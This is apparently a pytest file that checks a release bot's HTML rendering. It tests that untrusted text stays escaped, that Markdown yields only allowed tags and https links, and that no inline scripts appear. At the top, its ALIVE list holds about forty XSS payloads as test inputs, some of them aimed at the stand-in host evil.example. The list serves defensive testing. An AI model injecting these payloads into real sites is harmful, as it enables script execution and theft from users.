"""Rendering: every state of a release is drawn, and foreign text stays text wherever it stands."""

import dataclasses

import pytest

from bot import errors
from bot.adapters.web import rendering
from bot.domain.conversation import messages
from bot.domain.conversation.messages import (
    Card,
    Conversation,
    Dialog,
    Event,
    Facts,
    Field,
    Line,
    Link,
    Links,
    Log,
    Prose,
    Reply,
    Table,
)
from tests.fakes import fake_reception, sample_statuses
from tests.unit.adapters.web.page_reading import Reading

ALIVE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html,x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<form action=//evil.example><input name=key></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</dialog></form><form action=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}{% import 'x' as y %}",
    "[x](javascript:alert(1)) ![x](//evil.example/x.png) [x](data:text/html,x)",
    '[x](vbscript:alert(1)) <javascript:alert(1)> <https://evil.example/"onclick=alert(1)>',
    "\u202e\u0000\x1b]8;;https://evil.example\x07",
)
OURS = {"a", "blockquote", "br", "code", "em", "hr", "li", "ol", "p", "pre", "strong", "ul"}
WITH_ADDRESS = {"href", "src", "action", "formaction", "data", "srcdoc"}


def _conversation(text: str) -> Conversation:
    """A release in which every text is this one."""
    button = messages.Button(
        action="skip",
        label=text,
        release=text,
        question=text,
        argument=text,
        confirm=messages.Confirm(title=text, text=text, yes=text, no=text),
    )
    blocks = (
        Line(text=text),
        Facts(title=text, rows=((text, text),)),
        Table(title=text, columns=(text, text), rows=((text, text),)),
        Prose(title=text, markdown="plain", folded=True),
        Log(title=text, text=text),
        Links(title=text, rows=(Link(label=text, url=text),)),
    )
    card = Card(
        release=text,
        project=text,
        title=text,
        state="failed",
        tone="bad",
        summary=text,
        tasks=(messages.Task(name=text, label=text, state="failed", detail=text),),
        blocks=blocks,
        buttons=(button,),
    )
    event = Event(number=1, time="2026-03-04T14:00:00Z", text=text, log=text, pings=(text,))
    return Conversation(card=card, thread=(event,))


def _everything(text: str) -> str:
    """Every template that shows foreign text, filled with this one."""
    shown = rendering.conversation(_conversation(text))
    dialog = Dialog(
        action="hold",
        title=text,
        release=text,
        fields=(
            Field(name="reason", label=text, value=text, hint=text),
            Field(name="more", label=text, kind="text", value=text, hint=text),
        ),
        submit=text,
        base=text,
        blocks=(Line(text=text),),
    )
    error = errors.BadInput(text, text)
    reply = Reply(release=text, as_of=1, dialog=dialog)
    aside = {"who": text, "echo": text, "answer": "", "reply": reply, "time": text}
    return "".join(
        (
            shown["card"],
            shown["thread"],
            rendering.render("dialog.html.j2", dialog=dialog),
            rendering.render("aside.html.j2", **aside),
            rendering.render("refusal.html.j2", error=error.to_json()),
            str(rendering.refusal(error)["html"]),
        )
    )


@pytest.mark.parametrize("text", ALIVE)
def test_foreign_text_adds_no_tag(text: str) -> None:
    """With it in every place, the page has the same tags and attributes as with a plain word."""
    plain, foreign = Reading(_everything("word")), Reading(_everything(text))

    assert foreign.tags == plain.tags
    assert [name for name, _ in foreign.attributes] == [name for name, _ in plain.attributes]
    assert text.replace("\r", "") in foreign.words


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "https://a.example/x"])
def test_a_link_leads_to_the_web_or_nowhere(url: str) -> None:
    """And its host stands beside its label, as text."""
    links = Links(rows=(Link(label="the release", url=url),))
    read = Reading(rendering.render("blocks.html.j2", blocks=(links,), level=3, folds=""))

    assert dict(read.attributes)["href"] == (url if url.startswith("https:") else "")
    assert ("a.example" in read.words) == url.startswith("https:")


@pytest.mark.parametrize("text", ALIVE)
def test_markdown_holds_nothing_alive(text: str) -> None:
    """Even Markdown that nobody neutralised gets only our tags and links to the web."""
    read = Reading(rendering.markdown(text))

    assert set(read.tags) <= OURS
    assert {name for name, _ in read.attributes} <= {"href", "target", "rel"}
    assert all(
        value.startswith(rendering.ALLOWED_LINKS)
        for name, value in read.attributes
        if name in WITH_ADDRESS
    )


def test_links_open_elsewhere_and_tell_nothing() -> None:
    """An opened page knows neither us nor where its reader came from."""
    html = rendering.markdown("<https://example.org/a?b=1&c=2>")

    assert 'href="https://example.org/a?b=1&amp;c=2"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_headings_fit_where_they_stand() -> None:
    """A heading of the notes never stands above the card's own."""
    read = Reading(rendering.markdown("# One\n\n#### Two\n\nThree\n=====", level=4))

    assert read.tags == ["h4", "h4", "h4"]


@pytest.mark.parametrize("moment", sample_statuses.MOMENTS + sample_statuses.ENDS)
def test_every_state_is_drawn(moment: str) -> None:
    """The state is a word, every stage says its own, every button is there."""
    shown = sample_statuses.conversation(moment)

    drawn = rendering.conversation(shown)

    card = Reading(drawn["card"])
    assert rendering.WORDS[shown.card.state] in card.words
    assert all(task.label in card.words for task in shown.card.tasks)
    assert all(button.label in card.words for button in shown.card.buttons)
    assert all(event.text in Reading(drawn["thread"]).words for event in shown.thread)
    assert drawn["summary"] == f"{shown.card.title}: {shown.card.summary}"


def test_no_style_or_script_is_inline() -> None:
    """The policy of the page would not let them work."""
    read = Reading(_everything("word"))

    assert not {"script", "style"} & set(read.tags)
    assert not [n for n, _ in read.attributes if n == "style" or n.startswith("on")]


def test_columns_that_say_nothing_are_left_out() -> None:
    """An empty column is only width."""
    table = Table(columns=("a", "b", "c"), rows=(("1", "", ""), ("2", "", "x")))

    assert rendering.filled_columns(table) == [0, 2]


def test_a_dialog_offers_what_is_there() -> None:
    """The notes stand in their field as they are, and beside it as they will be read."""
    dialog = fake_reception.notes_dialog("edit_notes", "r1", "q1", "")
    notes = "\n\n  first < second & third\n"
    field = dataclasses.replace(dialog.fields[0], value=notes)

    html = rendering.render("dialog.html.j2", dialog=dataclasses.replace(dialog, fields=(field,)))

    assert f">\n{notes.replace('&', '&amp;').replace('<', '&lt;')}</textarea>" in html
    assert "first &lt; second &amp; third</p>" in html


@pytest.mark.parametrize(
    ("seconds", "words"),
    [
        (0, "0.0 s"),
        (59.94, "59.9 s"),
        (61, "1 min 01 s"),
        (3600, "1 h 00 min"),
        (7265, "2 h 01 min"),
    ],
)
def test_durations_are_as_exact_as_people_need(seconds: float, words: str) -> None:
    """Tenths of a second matter for a second, not for an hour."""
    assert rendering.duration(seconds) == words
